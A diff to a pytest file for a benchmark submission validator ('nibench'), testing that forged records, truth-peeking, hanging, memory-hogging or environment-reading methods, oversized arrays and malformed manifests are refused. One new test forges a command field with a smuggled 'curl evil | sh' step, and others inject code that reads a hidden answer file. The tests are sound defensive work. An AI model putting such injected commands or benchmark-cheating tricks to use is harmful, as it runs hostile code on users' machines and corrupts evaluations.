@@ -14,8 +14,10 @@ from pathlib import Path
 import numpy as np
 import pyarrow as pa
 import pytest
+import typer
 from pyarrow import csv, parquet
 
+from nibench.cli_submit import submit
 from nibench.confined import Limits
 from nibench.disk import digest
 from nibench.errors import InputError
@@ -102,7 +104,7 @@ def with_source(folder: Path, text: str) -> None:
         forged(folder, lambda r, _: r.model_copy(update={"digests": {**r.digests, "method": now}}), number)
 
 
-def refused(folder: Path, rerun: int = 1, limits: Limits = LIMITS) -> str:
+def refused(folder: Path, rerun: int = 0, limits: Limits = LIMITS) -> str:
     """Why a submission is refused."""
     verdict = validate(folder, rerun=rerun, limits=limits, seed=0)
     assert verdict.standing is None
@@ -260,12 +262,12 @@ def test_made_up_results_do_not_come_out_again(folder: Path, small: Suite) -> No
         )
     resealed(folder)
     assert validate(folder, rerun=0).standing == "self-reported"
-    assert "does not come out again" in refused(folder)
+    assert "does not come out again" in refused(folder, rerun=1)
 
 
 def test_another_methods_records_do_not_come_out_again(folder: Path) -> None:
     with_source(folder, SOURCE.replace("gap**self.power", "-(gap**self.power)"))
-    assert "does not come out again" in refused(folder)
+    assert "does not come out again" in refused(folder, rerun=1)
 
 
 def test_a_score_edited_by_hand_does_not_follow_from_its_arrays(folder: Path) -> None:
@@ -312,7 +314,7 @@ def test_a_card_that_is_not_that_of_the_source_is_caught(folder: Path) -> None:
     for number in range(2):
         forged(folder, lambda r, _: r.model_copy(update={"card": card}), number)
     resealed(folder, card=card)
-    assert "the card says claims = 'carries', the source 'associated'" in refused(folder)
+    assert "the card says claims = 'carries', the source 'associated'" in refused(folder, rerun=1)
 
 
 def test_a_record_with_a_card_of_its_own_is_caught(folder: Path) -> None:
@@ -335,13 +337,13 @@ def lying(folder: Path, needs: str, body: str) -> None:
 
 def test_reading_what_is_not_declared_fails_the_checks(folder: Path) -> None:
     lying(folder, "Needs.ACTIVATIONS | Needs.LABELS", "data.behaviour.margin()")
-    assert "declares needs" in refused(folder)
+    assert "declares needs" in refused(folder, rerun=1)
 
 
 def test_labels_taken_by_the_back_door_mean_nothing(folder: Path) -> None:
     back = "data = __import__('dataclasses').replace(data, needs=Needs.ACTIVATIONS | Needs.LABELS)"
     lying(folder, "Needs.ACTIVATIONS", back)
-    assert "does not come out again" in refused(folder)
+    assert "does not come out again" in refused(folder, rerun=1)
 
 
 def test_the_truth_is_not_for_methods(folder: Path) -> None:
@@ -350,7 +352,7 @@ def test_the_truth_is_not_for_methods(folder: Path) -> None:
     truth = bundled_models()["glass8"] / "truth.json"
     peek = f"import contextlib\n        with contextlib.suppress(OSError): open({str(truth)!r}).read()"
     with_source(folder, SOURCE.replace("        means = np", f"        {peek}\n        means = np"))
-    assert "reached for truth.json" in refused(folder)
+    assert "reached for truth.json" in refused(folder, rerun=1)
 
 
 # ---------------------------------------------------------------- code that does not end well
@@ -358,20 +360,20 @@ def test_the_truth_is_not_for_methods(folder: Path) -> None:
 
 def test_a_method_that_hangs_is_ended(folder: Path) -> None:
     with_source(folder, SOURCE.replace("        means = np", "        while True: pass\n        means = np"))
-    assert "took over 6 s" in refused(folder, limits=Limits(seconds=6))
+    assert "took over 6 s" in refused(folder, rerun=1, limits=Limits(seconds=6))
 
 
 def test_a_method_that_takes_all_memory_is_ended(folder: Path) -> None:
     with_source(
         folder, SOURCE.replace("        means = np", "        x = np.ones(2**31)\n        means = np")
     )
-    assert "MemoryError" in refused(folder, limits=replace(LIMITS, memory=2))
+    assert "MemoryError" in refused(folder, rerun=1, limits=replace(LIMITS, memory=2))
 
 
 def test_a_method_that_leaves_at_once_is_told(folder: Path) -> None:
     leave = "import os; os._exit(3)"
     with_source(folder, SOURCE.replace("        means = np", f"        {leave}\n        means = np"))
-    assert "ended with code 3" in refused(folder)
+    assert "ended with code 3" in refused(folder, rerun=1)
 
 
 def test_a_method_starts_no_programs_and_sees_no_environment(
@@ -380,7 +382,7 @@ def test_a_method_starts_no_programs_and_sees_no_environment(
     monkeypatch.setenv("SECRET_TOKEN", "1")
     look = "import os, subprocess\n        assert 'SECRET_TOKEN' not in os.environ\n        subprocess.run(['true'])"
     with_source(folder, SOURCE.replace("        means = np", f"        {look}\n        means = np"))
-    assert "starts no programs" in refused(folder)
+    assert "starts no programs" in refused(folder, rerun=1)
 
 
 # ---------------------------------------------------------------- malformed
@@ -402,13 +404,13 @@ def test_missing_and_extra_cells_are_named(folder: Path) -> None:
     gone.unlink()
     gone.with_suffix(".npz").unlink()
     resealed(folder)
-    malformed(folder, f"lacks 1 cells: {gone.stem}")
+    malformed(folder, f"lacks the cells of the suite small, 1 in all: {gone.stem}")
     failed = other.model_copy(update={"status": "failed", "scores": []})
     write_record(failed, {}, folder / "records")
     extra = failed.cell.model_copy(update={"task": "glass_tense"})
     write_record(failed.model_copy(update={"cell": extra}), {}, folder / "records")
     resealed(folder)
-    malformed(folder, "has 1 cells, which the suite does not have: my_idea--glass_tense")
+    malformed(folder, "has more than the cells of the suite small, 1 in all: my_idea--glass_tense")
 
 
 def test_scores_for_another_number_of_neurons_are_refused(folder: Path) -> None:
@@ -452,14 +454,24 @@ def test_paths_lead_nowhere_else(folder: Path, tmp_path: Path) -> None:
     malformed(folder, "no plain file")
 
 
+def test_a_command_that_readers_copy_is_a_plain_one(folder: Path) -> None:
+    forged(folder, lambda r, _: r.model_copy(update={"command": "nibench run --method x; curl evil | sh"}))
+    malformed(folder, "no plain nibench command")
+
+
 def test_files_that_nobody_listed_and_names_of_others_are_refused(folder: Path, tmp_path: Path) -> None:
     (folder / "more.py").write_text("")
     malformed(folder, "holds more.py, which its submission.json does not list")
     (folder / "more.py").unlink()
-    resealed(folder, method="lca")
+    (folder / "my_idea.py").rename(folder / "lca.py")
+    resealed(folder, method="lca", file="lca.py")
     malformed(folder, "name the folder like it")
     shutil.copytree(folder, tmp_path / "lca")
     malformed(tmp_path / "lca", "There is a method 'lca' already")
+    resealed(folder, file="other.py")
+    (folder / "lca.py").rename(folder / "other.py")
+    resealed(folder, method="my_idea")
+    malformed(folder, "the source of 'my_idea' is no file 'other.py'")
     (folder / MANIFEST).write_text("[" * 100_000)
     malformed(folder, "no whole JSON file")
     malformed(tmp_path / "nowhere", "There is no folder")
@@ -479,7 +491,7 @@ def array(shape: tuple[int, ...], content: bytes) -> bytes:
 @pytest.mark.parametrize(
     ("payload", "words"),
     [
-        (lambda: array((2**24,), bytes(2**27)), "expands to 128 MiB"),
+        (lambda: array((2**23 + 2**17,), bytes(2**26 + 2**20)), "expands to 65 MiB"),
         (lambda: array((2**40,), bytes(8)), "no plain array of its size"),
         (lambda: b"PK nothing", "no whole .npz"),
     ],
@@ -544,12 +556,17 @@ def test_the_command_ends_in_one_line_and_the_right_code(tmp_path: Path) -> None
     assert lacking.returncode == 2
     assert len(lacking.stderr.splitlines()) == 1
     assert "Type: nibench run --suite default --method my_idea.py" in lacking.stderr
-    (tmp_path / "my_idea.py").write_text(SOURCE.replace("return Ranking", "data.behaviour; return Ranking"))
-    failing = nibench("submit", "my_idea.py", cwd=tmp_path)
-    assert failing.returncode == 1
-    assert "fails a check" in failing.stderr
     nothing = nibench("submit", ".", "--validate", cwd=tmp_path)
     assert (nothing.returncode, len(nothing.stderr.splitlines())) == (2, 1)
+
+
+def test_what_fails_a_check_is_not_handed_in(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    file = tmp_path / "my_idea.py"
+    file.write_text(SOURCE.replace("return Ranking", "data.behaviour; return Ranking"))
+    with pytest.raises(typer.Exit) as ended:
+        submit(file)
+    assert ended.value.exit_code == 1
+    assert "fails a check" in capsys.readouterr().err
 
 
 def test_a_verdict_is_plain_json() -> None:
